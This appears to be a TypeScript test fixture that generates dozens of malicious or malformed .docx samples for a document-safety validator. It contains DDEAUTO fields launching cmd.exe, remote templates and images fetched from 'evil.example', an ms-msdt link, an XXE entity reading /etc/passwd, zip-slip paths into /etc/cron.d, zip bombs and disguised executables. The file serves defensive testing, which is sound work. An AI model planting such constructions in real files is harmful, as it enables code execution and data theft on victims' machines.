import { deflateRawSync } from 'node:zlib';
import { cfb, exe, pdf, plainZip, wordStream, xlsx } from './plain';
import { type Row, rows } from './row';
import { field, makeDocx, paragraph, relationships, typesOf, wordParts, wordXml } from './word';
import { zip } from './zip';

const macros = rows('docx', 'macros');
const runs = rows('docx', 'executable');
const leads = rows('docx', 'outside');
const carries = rows('docx', 'attachments');
const bursts = rows('docx', 'too-expanded');
const breaks = rows('docx', 'damaged');

const MB = 1024 * 1024;
const linked = (...all: Parameters<typeof relationships>) =>
  makeDocx({ 'word/_rels/document.xml.rels': relationships(...all) });
const rels = (xml: string | Buffer, name = 'word/_rels/settings.xml.rels') => makeDocx({ [name]: xml });
const TEMPLATE = relationships(['attachedTemplate', 'https://evil.example/t.dotm', 'External']);
const wide = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
const nested = `${paragraph(
  '<w:fldChar w:fldCharType="begin"/>',
  '<w:fldChar w:fldCharType="begin"/>',
  '<w:instrText> QUOTE 68 68 69 </w:instrText>',
  '<w:fldChar w:fldCharType="separate"/>',
  '<w:t>DDE</w:t>',
  '<w:fldChar w:fldCharType="end"/>',
  '<w:instrText> cmd "/k calc"</w:instrText>',
  '<w:fldChar w:fldCharType="end"/>',
)}`;

/** An archive whose directory calls a part by another name than the part itself does. */
function twoNames(): Buffer {
  const whole = zip({ ...wordParts(), 'word/abc.xml': '<a/>' });
  whole.write('word/xyz.xml', whole.indexOf('word/abc.xml'));
  return whole;
}

function damagedText(): Buffer {
  const packed = deflateRawSync(wordParts()['word/document.xml']!);
  const whole = makeDocx();
  const at = whole.indexOf(packed);
  return whole.fill(0xff, at, at + packed.length);
}

const many = () =>
  zip({
    ...wordParts(),
    ...Object.fromEntries(Array.from({ length: 2001 }, (_, n) => [`word/${n}.xml`, '<a/>'])),
  });

export const harmfulDocx: Row[] = [
  macros('macros', makeDocx({ 'word/vbaProject.bin': 'x' })),
  macros('macros, otherwise spelt', makeDocx({ 'word/VBAPROJECT.BIN': 'x' })),
  macros(
    'macros under another name',
    makeDocx({
      '[Content_Types].xml': typesOf({ '/word/a.bin': 'application/vnd.ms-office.vbaProject' }),
      'word/a.bin': 'x',
    }),
  ),
  macros(
    'macros under another name, by a relationship',
    makeDocx({ 'word/a.dat': 'x', 'word/_rels/document.xml.rels': relationships(['vbaProject', 'a.dat']) }),
  ),
  macros(
    'a macro-enabled document',
    makeDocx({
      '[Content_Types].xml': typesOf().replace(
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
        'vnd.ms-word.document.macroEnabled.main',
      ),
    }),
  ),
  macros(
    'a macro-enabled document, in code',
    makeDocx({
      '[Content_Types].xml': typesOf().replace(
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
        'vnd.ms-word.document.m&#97;cro&#x45;nabled.main',
      ),
    }),
  ),
  macros(
    'a macro-enabled document, in UTF-16',
    makeDocx({
      '[Content_Types].xml': wide(
        typesOf()
          .replace(
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
            'vnd.ms-word.document.macroEnabled.main',
          )
          .replace('UTF-8', 'UTF-16'),
      ),
    }),
  ),
  // Elsewhere.
  leads('a template from the web', rels(TEMPLATE)),
  leads(
    'a template from the web, in code',
    rels(TEMPLATE.replace('https', '&#104;ttps').replace('External', 'Ext&#x65;rnal')),
  ),
  leads('a template from the web, in UTF-16', rels(wide(TEMPLATE.replace('UTF-8', 'UTF-16')))),
  leads(
    'a template from the web, in capitals',
    rels(TEMPLATE.replace('TargetMode="External"', 'TargetMode="EXTERNAL"').replace('https', 'HTTPS')),
  ),
  leads(
    'a template from the web, of another prefix',
    rels(
      TEMPLATE.replace('<Relationships xmlns=', '<p:Relationships xmlns:p=')
        .replace('<Relationship Id', '<p:Relationship Id')
        .replace('</Relationships', '</p:Relationships'),
    ),
  ),
  leads('a template from the web, of a header', rels(TEMPLATE, 'word/_rels/header1.xml.rels')),
  leads('a template from the web, of a folder elsewhere', rels(TEMPLATE, 'other/_rels/settings.xml.rels')),
  leads(
    'a template from a share',
    rels(relationships(['attachedTemplate', 'file://evil.example/t.dotm', 'External'])),
  ),
  leads('a picture from the web', linked(['image', 'https://evil.example/a.png', 'External'])),
  leads('a frame from the web', linked(['frame', 'https://evil.example/', 'External'])),
  leads(
    'an object from the web',
    rels(
      relationships(['package', 'mhtml:https://evil.example!x', 'External']),
      'word/_rels/document.xml.rels',
    ),
  ),
  leads(
    'a picture of old Word from the web',
    makeDocx(
      {},
      '<w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="https://evil.example/a.png"/></w:pict>',
    ),
  ),
  leads('a text from elsewhere', makeDocx({}, field(' INCLUDETEXT "https://evil.example/a.docx" '))),
  leads(
    'a picture from elsewhere by a field',
    makeDocx({}, field(' INCLUDE', 'PICTURE "https://evil.example/a.png" ')),
  ),
  carries('an object of OLE from the web', linked(['oleObject', 'https://evil.example/a', 'External'])),
  runs('a link to a command', linked(['hyperlink', 'ms-msdt:/id PCWDiagnostic', 'External'])),
  runs('a link to a script', linked(['hyperlink', 'javascript:alert(1)', 'External'])),
  // Fields that start programs.
  runs('DDE', makeDocx({}, field(DDE))),
  runs('DDE in parts', makeDocx({}, field('D', 'DEA', 'UTO c:\\\\cmd.exe'))),
  runs('DDE in one element', makeDocx({}, `<w:fldSimple w:instr=" dde excel a b "/>`)),
  runs('DDE in code', makeDocx({}, field('&#68;&#68;E cmd x'))),
  runs('DDE in a header', makeDocx({ 'word/header1.xml': wordXml(field(DDE), 'hdr') })),
  runs(
    'DDE in a footnote of another name',
    makeDocx({ 'word/anything.xml': wordXml(field(DDE), 'footnotes') }),
  ),
  runs(
    'DDE in a comment',
    makeDocx({ 'word/comments.xml': wordXml(`<w:comment>${field(DDE)}</w:comment>`, 'comments') }),
  ),
  runs('DDE within a field', makeDocx({}, nested)),
  runs(
    'DDE in a main part elsewhere',
    zip({
      ...wordParts(),
      '_rels/.rels': relationships(['officeDocument', '/other/main.xml']),
      '[Content_Types].xml': typesOf({
        '/other/main.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      }),
      'other/main.xml': wordXml(field(DDE)),
    }),
  ),
  // Programs and other files within.
  runs('a script inside', makeDocx({ 'word/run.vbs': 'x' })),
  runs(
    'a program, named as a picture',
    makeDocx({ 'word/media/image1.png': Buffer.concat([exe, Buffer.alloc(99)]) }),
  ),
  runs(
    'a program inside an object',
    makeDocx({ 'word/media/a.emf': 'x This program cannot be run in DOS mode' }),
  ),
  runs(
    'ActiveX',
    makeDocx({
      'word/activeX/activeX1.xml': '<a/>',
      'word/_rels/document.xml.rels': relationships(['control', 'activeX/activeX1.xml']),
    }),
  ),
  runs(
    'ActiveX by its type',
    makeDocx({
      '[Content_Types].xml': typesOf({ '/word/a.bin': 'application/vnd.ms-office.activeX' }),
      'word/a.bin': 'x',
    }),
  ),
  carries(
    'an OLE object',
    makeDocx({
      'word/embeddings/oleObject1.bin': cfb(['\u0001Ole10Native']),
      'word/_rels/document.xml.rels': relationships(['oleObject', 'embeddings/oleObject1.bin']),
    }),
  ),
  carries(
    'an embedded spreadsheet',
    makeDocx({
      'word/embeddings/a.xlsx': xlsx,
      'word/_rels/document.xml.rels': relationships(['package', 'embeddings/a.xlsx']),
    }),
  ),
  carries(
    'a chart with a spreadsheet of macros',
    makeDocx({
      'word/embeddings/a.xlsx': plainZip,
      'word/charts/_rels/chart1.xml.rels': relationships(['package', '../embeddings/a.xlsx']),
    }),
  ),
  carries(
    'a web page within',
    makeDocx(
      { 'word/a.bin': '<p>', 'word/_rels/document.xml.rels': relationships(['aFChunk', 'a.bin']) },
      '<w:altChunk r:id="r0"/>',
    ),
  ),
  // Files of two kinds.
  runs('a program that goes on as zip', Buffer.concat([exe, makeDocx()])),
  runs('a document that is a PDF as well', zip([['%PDF-1.4', ''], ...Object.entries(wordParts())])),
  // Bombs.
  bursts('a bomb', () => makeDocx({ 'word/x.xml': Buffer.alloc(51 * MB) })),
  bursts('a bomb of many parts', () =>
    makeDocx(Object.fromEntries(Array.from({ length: 60 }, (_, n) => [`word/${n}.bin`, Buffer.alloc(MB)]))),
  ),
  bursts('a bomb of many entries', many),
  bursts('a text of a hundred million elements', () => makeDocx({}, '<w:p/>'.repeat(8 * MB))),
  // Damaged, or read differently by different programs.
  breaks('a bomb that lies about its size', () =>
    zip({ ...wordParts(), 'word/x.xml': Buffer.alloc(60 * MB) }, { deflate: true, claimedSize: 100 }),
  ),
  breaks(
    'a document that defines entities',
    makeDocx({
      'word/document.xml': `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>${wordXml('&b;').slice(38)}`,
    }),
  ),
  breaks(
    'content types in an unknown encoding',
    makeDocx({ '[Content_Types].xml': typesOf().replace('UTF-8', 'UTF-7') }),
  ),
  breaks('two texts', zip([...Object.entries(wordParts()), ['word/document.xml', '<a/>']])),
  breaks('two texts of other case', zip([...Object.entries(wordParts()), ['WORD/document.xml', '<a/>']])),
  breaks('a part of two names', twoNames()),
  breaks('a part that leads out of its folder', makeDocx({ '../../etc/cron.d/x': 'x' })),
  breaks('a part that leads out by backslashes', makeDocx({ '..\\..\\x': 'x' })),
  breaks('a part that leads to a root', makeDocx({ '/etc/passwd': 'x' })),
  breaks('a part that leads to a drive', makeDocx({ 'C:/x': 'x' })),
  breaks(
    'no text',
    makeDocx({
      '_rels/.rels': relationships(['officeDocument', 'word/other.xml']),
      '[Content_Types].xml': typesOf({
        '/word/other.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      }),
    }),
  ),
  breaks('a cut off document', makeDocx().subarray(0, -30)),
  breaks('half a document', makeDocx().subarray(0, 500)),
  breaks('something behind a document', Buffer.concat([makeDocx(), Buffer.from('more')])),
  breaks('a damaged text', damagedText()),
  breaks('a half zeroed document', makeDocx().fill(0, 400)),
  // Locked, and other than it says.
  { ...rows('docx', 'locked')('a document with a password', cfb(['EncryptionInfo', 'EncryptedPackage'])) },
  rows('docx', 'locked')('encrypted entries', zip(wordParts(), { encrypted: true })),
  { ...rows('docx', 'wrong-type')('a spreadsheet', xlsx), kind: 'sheet' },
  { ...rows('docx', 'wrong-type')('a plain archive', plainZip), kind: 'zip' },
  { ...rows('docx', 'wrong-type')('a PDF', pdf), kind: 'pdf' },
  { ...rows('docx', 'wrong-type')('an old Word file', cfb(['WordDocument'], wordStream())), kind: 'doc' },
];
